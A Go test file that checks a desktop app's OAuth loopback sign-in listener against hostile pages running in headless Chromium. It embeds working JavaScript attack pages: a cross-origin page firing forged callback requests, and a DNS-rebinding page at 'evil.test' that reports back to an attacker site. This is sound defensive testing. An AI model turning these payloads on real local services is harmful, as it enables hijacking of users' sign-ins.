//go:build unix

package auth

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/homeytray/homeytray/internal/cdp"
)

// These tests put a hostile web page in a real headless Chromium next to a
// running sign-in: a page on another origin firing every kind of request a
// page can make at the callback, and a DNS-rebinding page that is
// same-origin with the listener. None may end or hijack the sign-in, and the
// cross-origin page must not be able to read any answer.

// startChromium opens url in headless Chromium (internal/cdp: a profile and a process group of
// its own, killed with all its helpers at cleanup), with extra command-line flags.
func startChromium(t *testing.T, url string, extra ...string) {
	t.Helper()
	cdp.Start(t, extra...).NewPage(t, url)
}

// seenRequest is one request that reached the listener and its answer.
type seenRequest struct {
	method, host, target string
	header               http.Header
	status               int
	answer               http.Header
}

func (s seenRequest) String() string {
	return fmt.Sprintf("%s %s (Host %s, Sec-Fetch-Mode %q, Sec-Fetch-Dest %q) -> %d",
		s.method, s.target, s.host, s.header.Get("Sec-Fetch-Mode"), s.header.Get("Sec-Fetch-Dest"), s.status)
}

// listenerLog records what reaches the listener (Login.wrap).
type listenerLog struct {
	mu     sync.Mutex
	reqs   []seenRequest
	notify chan struct{} // a token after each new request
}

func newListenerLog() *listenerLog { return &listenerLog{notify: make(chan struct{}, 1)} }

func (lg *listenerLog) wrap(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sw := &statusWriter{ResponseWriter: w}
		h.ServeHTTP(sw, r)
		lg.mu.Lock()
		lg.reqs = append(lg.reqs, seenRequest{method: r.Method, host: r.Host, target: r.URL.RequestURI(),
			header: r.Header.Clone(), status: sw.status, answer: w.Header().Clone()})
		lg.mu.Unlock()
		select {
		case lg.notify <- struct{}{}:
		default:
		}
	})
}

func (lg *listenerLog) all() []seenRequest {
	lg.mu.Lock()
	defer lg.mu.Unlock()
	return append([]seenRequest(nil), lg.reqs...)
}

// waitFor waits until a request matching ok has been answered.
func (lg *listenerLog) waitFor(t *testing.T, what string, ok func(seenRequest) bool) seenRequest {
	t.Helper()
	guard := time.After(30 * time.Second)
	for {
		for _, s := range lg.all() {
			if ok(s) {
				return s
			}
		}
		select {
		case <-lg.notify:
		case <-guard:
			t.Fatalf("the listener never saw %s; it saw:\n%s", what, lg)
		}
	}
}

func (lg *listenerLog) String() string {
	var b strings.Builder
	for _, s := range lg.all() {
		fmt.Fprintf(&b, "  %s\n", s)
	}
	return b.String()
}

type statusWriter struct {
	http.ResponseWriter
	status int
}

func (w *statusWriter) WriteHeader(code int) {
	if w.status == 0 {
		w.status = code
	}
	w.ResponseWriter.WriteHeader(code)
}

func (w *statusWriter) Write(p []byte) (int, error) {
	if w.status == 0 {
		w.status = http.StatusOK
	}
	return w.ResponseWriter.Write(p)
}

// attempt is what the hostile page reports about one request it made.
type attempt struct {
	Name    string `json:"name"`
	Outcome string `json:"outcome"` // response (fetch resolved), load, error or timeout
	Type    string `json:"type"`    // fetch's Response.type
	Status  int    `json:"status"`
	Body    string `json:"body"`    // what the page could read of the answer
	Headers string `json:"headers"` // the answer's header names the page could see
	Error   string `json:"error"`
}

// hostileSite is the attacker's web site, on a loopback port of its own
// (another origin than the listener). Its pages post what they found to
// /report; the handler hands the report to the test and answers, once the
// test says so, with the address the page is to go to next.
type hostileSite struct {
	*httptest.Server
	pages   map[string]string
	ready   chan struct{}  // the page's script runs (GET /ready)
	release chan string    // the test's answer to /ready
	reports chan []attempt // what the page found
	next    chan string    // the test's answer to /report
}

func newHostileSite(t *testing.T, pages map[string]string) *hostileSite {
	s := &hostileSite{pages: pages, ready: make(chan struct{}, 1), release: make(chan string, 1),
		reports: make(chan []attempt, 1), next: make(chan string, 1)}
	s.Server = httptest.NewServer(http.HandlerFunc(s.serve))
	t.Cleanup(s.Close)
	return s
}

func (s *hostileSite) serve(w http.ResponseWriter, r *http.Request) {
	// This site's own answers may be read by pages on other origins (the
	// rebinding page runs at evil.test).
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Cache-Control", "no-store")
	switch r.URL.Path {
	case "/ready":
		s.ready <- struct{}{}
		select {
		case v := <-s.release:
			io.WriteString(w, v)
		case <-r.Context().Done():
		}
	case "/report":
		var found []attempt
		if err := json.NewDecoder(r.Body).Decode(&found); err != nil {
			found = []attempt{{Name: "report", Outcome: "unreadable report: " + err.Error()}}
		}
		s.reports <- found
		select {
		case next := <-s.next:
			io.WriteString(w, next)
		case <-r.Context().Done():
		}
	default:
		page, ok := s.pages[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, page)
	}
}

// report waits for the page's findings.
func (s *hostileSite) report(t *testing.T) []attempt {
	t.Helper()
	select {
	case found := <-s.reports:
		return found
	case <-time.After(60 * time.Second):
		t.Fatal("the hostile page never reported (see the chromium log)")
	}
	return nil
}

// hostileJS is the toolbox of the hostile pages: each via* function makes one
// kind of request and records what the page could see of the answer.
const hostileJS = `
const results = [];
function rec(name, o) { results.push(Object.assign({name: name}, o)); }
async function viaFetch(name, url, opts) {
  try {
    const resp = await fetch(url, opts);
    let body = "";
    try { body = await resp.text(); } catch (e) { body = ""; }
    rec(name, {outcome: "response", type: resp.type, status: resp.status, body: body,
               headers: Array.from(resp.headers.keys()).join(",")});
  } catch (e) {
    rec(name, {outcome: "error", error: String(e)});
  }
}
function viaXHR(name, method, url) {
  return new Promise(done => {
    const x = new XMLHttpRequest();
    x.open(method, url);
    const end = outcome => {
      rec(name, {outcome: outcome, status: x.status, body: x.responseText, headers: x.getAllResponseHeaders()});
      done();
    };
    x.onload = () => end("load");
    x.onerror = () => end("error");
    x.send();
  });
}
// frameText is what the page can read of a frame: nothing when it holds
// another origin's document.
function frameText(f) {
  try { const d = f.contentDocument; return d ? d.documentElement.outerHTML : ""; } catch (e) { return ""; }
}
function viaElement(name, tag, url) {
  return new Promise(done => {
    const el = document.createElement(tag);
    el.onload = () => { rec(name, {outcome: "load", body: tag === "iframe" ? frameText(el) : ""}); done(); };
    el.onerror = () => { rec(name, {outcome: "error"}); done(); };
    el.src = url;
    document.body.appendChild(el);
  });
}
function viaForm(name, method, url, fields) {
  return new Promise(done => {
    const f = document.createElement("iframe");
    f.name = name.replace(/\W/g, "_");
    document.body.appendChild(f);
    // Set after appending: the empty frame's own load must not count.
    f.onload = () => { rec(name, {outcome: "load", body: frameText(f)}); done(); };
    const form = document.createElement("form");
    form.method = method;
    form.action = url;
    form.target = f.name;
    for (const k in fields) {
      const i = document.createElement("input");
      i.type = "hidden"; i.name = k; i.value = fields[k];
      form.appendChild(i);
    }
    document.body.appendChild(form);
    form.submit();
  });
}
// run makes the attempts one after another; one that never settles is
// reported as a timeout.
async function run(tries) {
  for (const [name, f] of tries) {
    await Promise.race([f(name), new Promise(r => setTimeout(r, 10000))]);
    if (!results.some(x => x.name === name)) rec(name, {outcome: "timeout"});
  }
}
async function report(to) {
  const resp = await fetch(to, {method: "POST", headers: {"Content-Type": "text/plain"}, body: JSON.stringify(results)});
  return resp.text();
}
`

// crossOriginPage fires at the callback from another origin; {{A}} and {{B}}
// are the callback URL under 127.0.0.1 and under localhost.
const crossOriginPage = `<!doctype html><meta charset="utf-8"><title>not evil at all</title><body><script>` +
	hostileJS + `
const A = "{{A}}", B = "{{B}}";
const wrong = "?code=evil&state=wrong";
run([
  ["fetch cors, wrong state", n => viaFetch(n, A + wrong, {mode: "cors"})],
  ["fetch cors, no state, localhost", n => viaFetch(n, B + "?code=evil", {mode: "cors"})],
  ["fetch cors with credentials", n => viaFetch(n, A + wrong, {mode: "cors", credentials: "include"})],
  ["fetch no-cors, forged denial", n => viaFetch(n, A + "?error=access_denied&state=wrong", {mode: "no-cors"})],
  ["fetch no-cors, forged denial without state", n => viaFetch(n, B + "?error=access_denied", {mode: "no-cors"})],
  ["fetch no-cors POST", n => viaFetch(n, A, {mode: "no-cors", method: "POST",
      headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: "code=evil&state=wrong"})],
  ["fetch cors POST JSON (preflight)", n => viaFetch(n, A + wrong, {mode: "cors", method: "POST",
      headers: {"Content-Type": "application/json"}, body: "{}"})],
  ["fetch custom header (preflight)", n => viaFetch(n, A + wrong, {mode: "cors", headers: {"X-Evil": "1"}})],
  ["fetch PUT (preflight)", n => viaFetch(n, B + wrong, {mode: "cors", method: "PUT"})],
  ["XHR GET, wrong state", n => viaXHR(n, "GET", A + wrong)],
  ["XHR GET, forged denial, localhost", n => viaXHR(n, "GET", B + "?error=access_denied")],
  ["img", n => viaElement(n, "img", A + wrong)],
  ["script", n => viaElement(n, "script", B + wrong)],
  ["iframe, forged denial", n => viaElement(n, "iframe", A + "?error=access_denied&state=wrong")],
  ["form POST into iframe", n => viaForm(n, "POST", A, {code: "evil", state: "wrong"})],
  ["form GET into iframe", n => viaForm(n, "GET", B, {error: "access_denied", state: "wrong"})],
]).then(() => report("/report")).then(next => { if (next) location.href = next; });
</script>`

// A page on another origin can make the browser send the callback every kind
// of request, but the sign-in neither ends nor takes anything from it, and
// the page reads nothing: no answer allows it (no Access-Control-Allow-*),
// the preflights fail, fetches are opaque or fail, frames stay closed. The
// same browser then completes the real sign-in.
func TestLoginHostilePageInChromium(t *testing.T) {
	checkLeaks(t)
	cdp.ChromiumPath(t) // fails under CI, skips loudly elsewhere, without Chromium
	lg := newListenerLog()
	r := startLogin(t, "localhost", grant("good-code"), func(l *Login) { l.Timeout = 2 * time.Minute; l.wrap = lg.wrap })
	authURL := r.authURL(t)
	port := strconv.Itoa(r.port)
	page := strings.NewReplacer("{{A}}", "http://127.0.0.1:"+port+"/callback",
		"{{B}}", "http://localhost:"+port+"/callback").Replace(crossOriginPage)
	site := newHostileSite(t, map[string]string{"/evil.html": page})
	startChromium(t, site.URL+"/evil.html")

	found := site.report(t)
	select {
	case res := <-r.done:
		t.Fatalf("the hostile page ended the sign-in: code %q, err %v", res.code, res.err)
	default:
	}
	if len(found) != 16 {
		t.Errorf("the page reported %d attempts, want 16", len(found))
	}
	for _, a := range found {
		t.Logf("page: %-45s %s %s %d %s", a.Name, a.Outcome, a.Type, a.Status, a.Error)
		readable := a.Status != 0 || a.Body != "" || a.Headers != "" || (a.Type != "" && a.Type != "opaque")
		if a.Outcome == "timeout" || readable {
			t.Errorf("%s: %s, type %q, status %d, headers %q, body %.200q: the page could read the answer (or it never came)",
				a.Name, a.Outcome, a.Type, a.Status, a.Headers, a.Body)
		}
		if strings.Contains(a.Name, "preflight") && a.Outcome != "error" {
			t.Errorf("%s: %s; want the preflight to fail", a.Name, a.Outcome)
		}
	}

	// The real sign-in, in the same browser, after all that: the page goes
	// on to the authorization page, as the user would (its script is done).
	site.next <- authURL
	if code, err := r.result(t); err != nil || code != "good-code" {
		t.Fatalf("Code = %q, %v; want the good code", code, err)
	}

	// Code has returned, so the listener has shut down and every handler has
	// finished: the log is complete.
	seen := lg.all()
	t.Logf("the listener saw:\n%s", lg)
	kinds := map[string]bool{}
	for _, s := range seen {
		kinds[s.method+" "+s.header.Get("Sec-Fetch-Dest")] = true
		for h := range s.answer {
			if strings.HasPrefix(http.CanonicalHeaderKey(h), "Access-Control-Allow-") {
				t.Errorf("%s: answered with %s", s, h)
			}
		}
		switch {
		case s.header.Get("X-Evil") != "" || s.method == http.MethodPut:
			t.Errorf("%s: a request that needs a preflight was sent after it", s)
		case s.method == http.MethodOptions && s.status < 400:
			t.Errorf("%s: the preflight was allowed", s)
		case strings.Contains(s.target, "code=good-code"):
			if s.status != http.StatusOK {
				t.Errorf("%s: the real callback was refused", s)
			}
		case s.status < 400:
			t.Errorf("%s: a hostile request was accepted", s)
		}
	}
	// Each kind of request really reached the listener (else the test would
	// prove nothing): fetch/XHR (dest empty), img, script, iframe, the form
	// posts, the preflights and the real navigation.
	for _, k := range []string{"GET empty", "GET image", "GET script", "GET iframe", "POST empty", "POST iframe",
		"OPTIONS empty", "GET document"} {
		if !kinds[k] {
			t.Errorf("no %q request reached the listener", k)
		}
	}
}

// rebindingPage is served at http://evil.test:<port>/ before the sign-in
// listens on that port; then evil.test "rebinds" to the listener (here: the
// same 127.0.0.1 port changes hands), so the page is same-origin with it and
// could read its answers. {{SITE}} is the attacker's own site, which tells
// the page when to strike and, to make the point, the right state.
const rebindingPage = `<!doctype html><meta charset="utf-8"><title>rebinding</title><body><script>` +
	hostileJS + `
const SITE = "{{SITE}}";
(async () => {
  const state = await (await fetch(SITE + "/ready")).text();
  const target = "/callback?code=evil&state=" + encodeURIComponent(state);
  await run([
    ["same-origin fetch", n => viaFetch(n, target, {})],
    ["same-origin POST JSON with a custom header", n => viaFetch(n, target, {method: "POST",
        headers: {"Content-Type": "application/json", "X-Evil": "1"}, body: "{}"})],
    ["same-origin XHR", n => viaXHR(n, "GET", target)],
  ]);
  const next = await report(SITE + "/report");
  if (next) location.href = next;
})();
</script>`

// DNS rebinding: a page at a hostile name that resolves to 127.0.0.1 is
// same-origin with the listener. The listener refuses every request whose
// Host is not its loopback address, even one with the right state (the page
// gets it here from its site, as if it had leaked): the real redirect always
// uses the registered host, so only a hostile page can send a wrong one.
func TestLoginRefusesDNSRebindingInChromium(t *testing.T) {
	checkLeaks(t)
	cdp.ChromiumPath(t) // fails under CI, skips loudly elsewhere, without Chromium
	site := newHostileSite(t, nil)
	// The attacker's server holds the port first, serving the page under
	// evil.test; Chromium resolves evil.test to 127.0.0.1.
	pre := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, strings.ReplaceAll(rebindingPage, "{{SITE}}", site.URL))
	}))
	t.Cleanup(pre.Close)
	port := pre.Listener.Addr().(*net.TCPAddr).Port
	evilOrigin := "http://evil.test:" + strconv.Itoa(port)
	startChromium(t, evilOrigin+"/", "--host-resolver-rules=MAP evil.test 127.0.0.1")
	select {
	case <-site.ready:
	case <-time.After(60 * time.Second):
		t.Fatal("the rebinding page never ran (see the chromium log)")
	}
	pre.Close() // the rebinding: the port, and so the page's origin, now leads to the listener

	lg := newListenerLog()
	redirect := "http://localhost:" + strconv.Itoa(port) + "/callback"
	r := startLogin(t, "localhost", grant("good-code"), func(l *Login) {
		l.Config.RedirectURL = redirect
		l.wrap = lg.wrap
		l.Timeout = 2 * time.Minute
	})
	authURL := r.authURL(t) // Code listens before it opens the browser
	u, _ := url.Parse(authURL)
	state := u.Query().Get("state")
	site.release <- state

	found := site.report(t)
	notEnded := func(by string) {
		t.Helper()
		select {
		case res := <-r.done:
			t.Fatalf("%s ended the sign-in: code %q, err %v", by, res.code, res.err)
		default:
		}
	}
	notEnded("the rebinding page's requests")
	target := "/callback?code=evil&state=" + url.QueryEscape(state)
	site.next <- evilOrigin + target // and a top-level navigation there
	// Chromium sends no Sec-Fetch-* to http://evil.test (not a trustworthy
	// origin), but Upgrade-Insecure-Requests only with navigations.
	lg.waitFor(t, "the top-level navigation under evil.test", func(s seenRequest) bool {
		return s.header.Get("Upgrade-Insecure-Requests") == "1" && strings.HasPrefix(s.target, "/callback")
	})
	notEnded("the navigation under evil.test")
	if len(found) != 3 {
		t.Errorf("the page reported %d attempts, want 3", len(found))
	}
	for _, a := range found {
		t.Logf("page: %-45s %s %s %d %s", a.Name, a.Outcome, a.Type, a.Status, a.Error)
		// Same-origin, the page reads the answer: it must be the refusal.
		if a.Status != http.StatusMisdirectedRequest || !strings.Contains(a.Body, "is not the sign-in") {
			t.Errorf("%s: %s, status %d, body %.200q; want the 421 refusal page", a.Name, a.Outcome, a.Status, a.Body)
		}
	}

	// The real callback still completes the sign-in.
	resp, err := browser.Get(authURL)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if code, err := r.result(t); err != nil || code != "good-code" {
		t.Fatalf("Code = %q, %v; want the good code", code, err)
	}
	t.Logf("the listener saw:\n%s", lg)
	var evil int
	for _, s := range lg.all() {
		if s.host == "localhost:"+strconv.Itoa(port) && s.status == http.StatusOK {
			continue // the real callback
		}
		if s.host != "evil.test:"+strconv.Itoa(port) || s.status != http.StatusMisdirectedRequest {
			t.Errorf("%s: want only evil.test requests, each refused with 421", s)
		}
		if strings.HasPrefix(s.target, "/callback") { // not the browser's own /favicon.ico
			evil++
		}
	}
	// Chromium retries a request once on a new connection after a 421, so
	// each may come twice.
	if evil < 4 || evil > 8 {
		t.Errorf("%d callbacks under evil.test reached the listener, want 3 from the page and 1 navigation, each maybe twice", evil)
	}
}
